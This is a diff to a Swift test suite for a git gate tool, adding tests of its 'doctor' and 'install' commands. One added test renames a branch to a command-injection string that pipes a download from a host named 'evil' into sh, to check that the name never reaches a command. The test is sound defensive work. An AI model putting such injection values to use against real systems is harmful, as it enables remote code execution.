@@ -31,6 +31,14 @@ struct OperatorWordsTests {
                 doctor.status == 1
                     && NewcomerTests.words(doctor.output).contains("→ git symbolic-ref HEAD refs/heads/main"),
                 "\(doctor.output)")
+            // A trusted ref decides, whatever HEAD names; and what somebody called a branch is put into no command.
+            try repo.server("config", "gatehouse.trustedRef", "main")
+            #expect(try !repo.gatehouse("doctor", in: repo.serverFolder).output.contains("symbolic-ref"))
+            try repo.server("config", "--unset", "gatehouse.trustedRef")
+            try repo.server("branch", "-m", "main", "x;curl${IFS}evil|sh")
+            let hostile = try repo.gatehouse("doctor", in: repo.serverFolder).output
+            #expect(hostile.contains("git symbolic-ref HEAD refs/heads/BRANCH"), "\(hostile)")
+            try repo.server("branch", "-m", "x;curl${IFS}evil|sh", "main")
             try repo.server("symbolic-ref", "HEAD", "refs/heads/main")
             #expect(try repo.gatehouse("doctor", in: repo.serverFolder).output.contains("✓ process"))
         }
@@ -137,6 +145,18 @@ struct OperatorWordsTests {
             let doctor = try repo.gatehouse("doctor", in: repo.serverFolder, environment: variables)
             #expect(doctor.output.contains("GIT_CONFIG_SYSTEM is set here, and the gate reads no settings from there"))
             #expect(try !repo.gatehouse("doctor", in: repo.serverFolder).output.contains("GIT_CONFIG"))
+        }
+    }
+
+    @Test("hooks in a repository that the gate cannot read are installed with a word about it")
+    func unreadableFormat() async throws {
+        try GitScenario.play { repo in
+            let place = repo.folder.appending(path: "other.git")
+            #expect(
+                try repo.run(["git", "init", "--quiet", "--bare", "--object-format=sha256", place.path]).status == 0)
+            let installed = NewcomerTests.words(try repo.gatehouse("install", "--server", in: place).output)
+            #expect(installed.contains("the gate cannot read sha256 objects yet: every push to here will be refused"))
+            #expect(installed.components(separatedBy: "sha256").count == 2, "\(installed)")
         }
     }
 }
